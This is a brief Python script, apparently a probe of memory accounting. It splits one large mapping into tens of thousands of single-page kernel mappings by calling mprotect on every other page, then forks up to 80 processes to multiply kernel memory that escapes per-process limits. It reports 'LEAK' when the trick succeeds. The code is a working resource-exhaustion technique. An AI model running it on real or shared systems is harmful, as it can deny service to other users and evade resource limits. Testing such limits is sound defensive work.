"""Fill the kernel's memory with mappings of one page, which count as nobody's memory, in as many processes as there may be.

Measured: 0.7 GB. They go with the processes.
"""

import ctypes
import os
import time

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
PAGE, READ, PRIVATE = 4096, 1, 0x22
start = libc.mmap(None, 120_000 * PAGE, READ, PRIVATE, -1, 0)
number = 0
while libc.mprotect(start + 2 * number * PAGE, PAGE, 0) == 0 and number < 60_000:
    number += 1
if number > 40_000:  # two mappings each, of 65,530 that the kernel allows
    print("LEAK: has", number)
for _ in range(80):
    try:
        if not os.fork():
            time.sleep(5)
            os._exit(0)
    except OSError:
        break
